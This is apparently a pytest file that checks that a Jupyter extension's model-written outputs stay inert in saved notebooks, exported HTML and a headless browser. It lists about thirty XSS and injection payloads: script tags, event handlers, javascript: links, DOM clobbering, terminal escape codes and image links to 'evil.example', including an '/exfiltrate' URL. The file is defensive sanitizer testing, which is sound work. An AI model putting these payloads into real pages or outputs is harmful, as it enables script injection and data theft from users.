"""S5: whatever a model writes, nothing of it is alive: not in a saved notebook, its HTML, or a browser."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import threading
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import nbformat
import pytest
from jupyter_client.manager import AsyncKernelManager
from kernels import ThisPython, kernel_environment
from nbclient import NotebookClient
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from test_sanitize import ATTACKS
from traitlets import default

from deepseek_nb.sandbox import Completion, ParsedRequest, Sandbox

PWN = "document.documentElement.setAttribute('data-pwned','1')"
EVIL = "evil.example"
MORE = [
    f"<script>fetch('http://{EVIL}/fetched');{PWN}</script>",
    f'<img src=http://{EVIL}/img.png onerror="{PWN}">',
    f'<svg onload="{PWN}"><script>{PWN}</script></svg>',
    f'<button data-commandlinker-command="x:y" data-commandlinker-args="{{}}" onclick="{PWN}">go',
    f"<math><annotation-xml encoding='text/html'><img src=x onerror=\"{PWN}\"></annotation-xml></math>",
    f"<math href='javascript:{PWN}'><mtext><img src=x onerror=\"{PWN}\"></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'></noscript>",
    f"<table><td background='http://{EVIL}/td.png'>x</td></table>",
    f'| a | b |\n|---|---|\n| <img src=x onerror="{PWN}"> | ![x](http://{EVIL}/cell.png) |',
    f"![secret](http://{EVIL}/exfiltrate?q=the+row)",
    f"![secret][r]\n\n[r]: http://{EVIL}/reference.png",
    f"[a](javascript:{PWN}) [b](data:text/html,<script>{PWN}</script>) [c](vbscript:x) <javascript:{PWN}>",
    f'```\n```\n<img src=x onerror="{PWN}">\n```\n```',
    f"````\n```\n````\n<script>{PWN}</script>",
    f"~~~html\n~~~\n<script>{PWN}</script>",
    f'```mermaid\ngraph TD; A["<img src=x onerror={PWN}>"]\n```',
    "# MathJax\n\n## require\n\nMathJax\n=======\n\n> # jupyter\n\n# Math**Jax**\n\n# [MathJax](https://x.example)",
    "<form id=MathJax><input name=Hub></form><a id=require href=x>",
    f"\x1b]8;;http://{EVIL}/osc\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x1b[2J \x9b2J",
    f"<!-- --><script>{PWN}</script><!-- -->",
    f"<link rel=stylesheet href=http://{EVIL}/style.css><style>@import 'http://{EVIL}/import.css'</style>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/refresh'><base href=http://{EVIL}/>",
    f"<iframe src=http://{EVIL}/frame></iframe><object data=http://{EVIL}/object></object>",
    f"$\\href{{javascript:{PWN}}}{{x}}$ $$\\style{{background:url(http://{EVIL}/tex)}}{{x}}$$",
    f'[^1]: <img src=x onerror="{PWN}">\n\nx[^1]',
    f'Term\n: <img src=x onerror="{PWN}">',
    f"- [ ] <script>{PWN}</script>\n- [x] done",
    f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
    f'<a href="//{EVIL}/x">x</a> [x](//{EVIL}/y) [x](/lab/tree/evil.ipynb)',
    f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;script&#62;",
]
LIVE = [attack.replace("alert(1)", PWN).replace("https://evil", "http://evil") for attack in ATTACKS] + MORE

INERT = {
    *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "em", "strong", "del", "code", "pre", "br"),
    *("hr", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "a", "div", "span", "dl", "dt", "dd"),
    *("input", "sup", "section", "style", "s", "details", "summary"),
}
ATTRIBUTES = {
    *("class", "href", "title", "start", "style", "border", "tabindex", "data-mime-type", "data-jp-suppress"),
    *("id", "type", "disabled", "checked", "scoped", "colspan", "halign", "valign", "role"),
}
"""A check box is what a list of tasks is shown with; ``style`` is what pandas writes above its tables."""
PANDAS_STYLE = re.compile(r"\s*(?:\.dataframe [\w\s>:-]+\{[\w\s:;-]+\}\s*)+")
NBCONVERTS_OWN = ("text/javascript", "application/vnd.jupyter.widget-view+json")
WIDGET_PLACE = re.compile(
    r"\s*var element = document\.getElementById\('[\w-]+'\);\s*"
    r"|\s*\{[\w\": ,]+\}\s*"
)
"""Where nbconvert puts a widget: the progress bar of a job."""
TEXT_ALIGN = re.compile(r"text-align: ?(?:left|right|center);?")
PAGE_NAMES = re.compile(r"(?:MathJax|require|jupyter|define|jQuery)", re.IGNORECASE)


class Outputs(HTMLParser):
    """What is alive within the outputs of a notebook's HTML."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.alive: list[str] = []
        self.outputs = 0
        self._depth = 0
        self._in = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if not self._depth:
            if tag == "div" and "jp-OutputArea-output" in (attributes.get("class") or ""):
                self._depth, self.outputs = 1, self.outputs + 1
            return
        if tag == "div":
            self._depth += 1
        self._in = tag
        if tag == "script" and attributes.get("type") in NBCONVERTS_OWN:
            return
        if tag not in INERT or (tag == "input" and attributes.get("type") != "checkbox"):
            self.alive.append(f"<{tag} {attributes}>")
        for name, value in attrs:
            value = value or ""
            harmless = name in ATTRIBUTES
            if name == "href":
                harmless = bool(re.match(r"(?:https?://|mailto:|#)", value, re.IGNORECASE))
            elif name == "style":
                harmless = bool(TEXT_ALIGN.fullmatch(value))
            elif name == "id":
                harmless = not PAGE_NAMES.fullmatch(value)
            if not harmless:
                self.alive.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        self._in = ""
        if self._depth and tag == "div":
            self._depth -= 1

    def handle_data(self, data):
        if self._depth and self._in in ("style", "script"):
            allowed = PANDAS_STYLE if self._in == "style" else WIDGET_PLACE
            if not allowed.fullmatch(data):
                self.alive.append(f"{self._in} {data!r}")

    def handle_comment(self, data):
        if self._depth:
            self.alive.append(f"<!--{data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


class ThisKernelManager(AsyncKernelManager):
    """nbclient makes it, and so closes all it opened."""

    @default("kernel_spec_manager")
    def _this_python(self) -> ThisPython:
        return ThisPython()


def write_attack(request: ParsedRequest) -> Completion:
    """``attack N`` is answered with the attack of that number; in JSON mode as a field that is too long."""
    said = "\n".join(message["content"] for message in request.messages)
    attack = LIVE[int(re.search(r"attack (\d+)", said)[1])]
    row = {"level": attack, attack: 1}
    if request.json_mode:
        return Completion(json.dumps({"rows": [row]} if '"rows"' in said else row))
    return Completion(attack, reasoning=attack)


def page_of(notebook: nbformat.NotebookNode) -> str:
    return HTMLExporter().from_notebook_node(notebook)[0]


@pytest.fixture(scope="module")
def executed(tmp_path_factory):
    """A notebook in which every attack was answered, in every view, and its HTML."""
    folder = tmp_path_factory.mktemp("hostile")
    cells = ["%load_ext deepseek_nb\nimport pandas as pd\nL = {'level': int}"]
    cells += [f"%deepseek --as json attack {n}" for n in range(len(LIVE))]  # each fails: it is no JSON
    cells += ["%config DeepSeekMagics.reasoning = 'folded'\n%config DeepSeekMagics.facts = True"]
    for view in ("markdown", "text", "code", "table"):
        for start in range(0, len(LIVE), 10):
            numbers = range(start, min(start + 10, len(LIVE)))
            cells.append("\n".join(f"%deepseek --as {view} attack {n}" for n in numbers))
    cells += [
        f"frame = pd.DataFrame({{'n': range({len(LIVE)})}})\n"
        "answers = frame.deepseek.apply('attack {{n}}', job='attacks')\nanswers",
        "answers.set_index('answer')",
        "answers[['answer']].set_axis([answers['answer'].iloc[0]], axis=1)",
        "%deepseek attack 0",
        "_deepseek",
        "_",
        "import deepseek_nb as ds\nprint(repr(ds.ask('attack 1')))",
        *(f"display(ds.ask('attack {n}'))" for n in range(0, len(LIVE), 5)),
        "%deepseek --background --into later attack 2",
        "later.result()",
        *(f"%deepseek --schema L attack {n}" for n in range(0, len(LIVE), 25)),
        "raise ds.DeepSeekError(_deepseek.text)",
        "frame.deepseek.apply('attack {{n}}', job='" + "<script>1</script>" + "')",
        "%deepseek " + "{{" + "<script>alert(1)</script>" + "}}",
    ]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in cells])
    with Sandbox(engine=write_attack, count="estimate") as sandbox:
        environment = kernel_environment(
            sandbox, folder, DEEPSEEK_NB_STREAM="0", DEEPSEEK_NB_PATIENCE_S="5", DEEPSEEK_NB_MAX_FAULTS="0"
        )
        NotebookClient(
            notebook,
            timeout=90,
            kernel_name="this",
            kernel_manager_class=ThisKernelManager,
            allow_errors=True,
            store_widget_state=True,
            resources={"metadata": {"path": str(folder)}},
        ).execute(env=environment)
    return notebook


def test_the_notebook_shows_every_attack(executed):
    """Otherwise what follows would find nothing for the wrong reason."""
    outputs = [output for cell in executed.cells for output in cell.outputs]
    shown = [output for output in outputs if output.output_type == "display_data"]
    assert len(shown) >= 5 * len(LIVE)
    folds = [output for output in shown if "<details>" in output.data.get("text/markdown", "")]
    assert len(folds) >= 2 * len(LIVE)
    assert sum(output.output_type == "error" for output in outputs) >= 4
    tables = [output.data["text/html"] for output in outputs if "text/html" in output.get("data", {})]
    assert sum("&lt;script" in table for table in tables) >= 2
    assert "attacks" in str(executed.metadata.widgets), "a progress bar"
    assert not re.search(r"<(?!/?(?:b|br)\b)\w", str(executed.metadata.widgets))


def test_nothing_is_alive_in_its_html(executed):
    """No tag but Markdown's own, no attribute but theirs, no address but https, http and mailto."""
    found = Outputs(page_of(executed))
    assert found.outputs >= 5 * len(LIVE)
    assert found.alive == []


def test_no_text_moves_a_cursor(executed):
    """No control characters in what a terminal would print, errors included, but IPython's own colours."""
    for cell in executed.cells:
        for output in cell.outputs:
            texts = [output.get("text", ""), *output.get("data", {}).values(), *output.get("traceback", [])]
            for text in texts if output.output_type != "execute_result" else []:
                assert not re.search(
                    r"[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f-\x9f\u202a-\u202e]", str(text)
                )
                assert not re.search(r"\x1b(?!\[[\d;]*m)", str(text))


def unsanitised() -> nbformat.NotebookNode:
    """The attacks as they came, as a careless program shows them; but those that leave the page."""
    left = [attack for attack in LIVE if not re.search(r"http-equiv|^<!-- open|<textarea|<plaintext", attack)]
    outputs = [nbformat.v4.new_output("display_data", data={"text/markdown": attack}) for attack in left]
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x", outputs=outputs)])


def test_the_judge_sees_what_is_alive():
    """Unsanitised, most attacks are found."""
    pages = [f'<div class="jp-OutputArea-output">{markdown2html_mistune(attack)}</div>' for attack in LIVE]
    assert sum(bool(Outputs(page).alive) for page in pages) > len(LIVE) / 2


# ------------------------------------------------------------------------------------ a browser


TOUCH_ALL = """<script>
addEventListener('load', () => {
  document.addEventListener('click', event => event.preventDefault(), true);
  for (const one of document.querySelectorAll('.jp-OutputArea-output *')) {
    for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle', 'click', 'pointerdown'])
      one.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true}));
    if (one.protocol && !['http:', 'https:', 'mailto:', 'file:', ':'].includes(one.protocol))
      document.documentElement.setAttribute('data-link', one.protocol);
  }
  const there = ['MathJax', 'require', 'jupyter', 'define'].filter(name => window[name] instanceof Element);
  document.documentElement.setAttribute('data-clobbered', there.join(' '));
  document.documentElement.setAttribute('data-touched', 'all');
});
</script></body>"""


class _Elsewhere(BaseHTTPRequestHandler):
    """Every host of the world, for the browser: notes who was asked for."""

    def do_GET(self) -> None:
        self.server.asked.append(self.headers.get("host", ""))
        self.send_error(404)

    do_POST = do_HEAD = do_GET  # noqa: N815 (http.server's own names)

    def log_message(self, *_: object) -> None:
        """Says nothing."""


def browse(page: str, folder) -> tuple[str, list[str]]:
    """What became of the page in Chromium after everything in it was touched, and the hosts it asked."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("needs chromium")
    (folder / "page.html").write_text(page.replace("</body>", TOUCH_ALL), encoding="utf-8")
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Elsewhere)
    server.asked = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    flags = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-dev-shm-usage "
    flags += "--disable-background-networking --disable-component-update --disable-sync --disable-extensions "
    flags += "--no-default-browser-check --virtual-time-budget=5000 --dump-dom"
    try:
        done = subprocess.run(
            [
                browser,
                *flags.split(),
                f"--user-data-dir={folder / 'profile'}",
                f"--host-resolver-rules=MAP * 127.0.0.1:{server.server_address[1]}",
                (folder / "page.html").as_uri(),
            ],
            capture_output=True,
            text=True,
            timeout=100,
            check=False,
        )
    finally:
        server.shutdown()
        server.server_close()
    assert 'data-touched="all"' in done.stdout, done.stderr[-2000:]
    return done.stdout[: done.stdout.index(">", done.stdout.index("<html")) + 1], server.asked


def test_nothing_runs_in_a_browser(executed, tmp_path):
    """Every element touched and clicked: no script ran, no name of the page is taken, no host was asked."""
    root, asked = browse(page_of(executed), tmp_path)
    assert "data-pwned" not in root
    assert "data-link" not in root
    assert 'data-clobbered=""' in root
    assert [host for host in asked if EVIL in host] == []


def test_the_browser_falls_for_the_attacks_as_they_came(tmp_path):
    """Unsanitised, scripts run and the other host is asked: the test is not blind."""
    root, asked = browse(page_of(unsanitised()), tmp_path)
    assert 'data-pwned="1"' in root
    assert "data-link" in root
    assert [host for host in asked if EVIL in host]
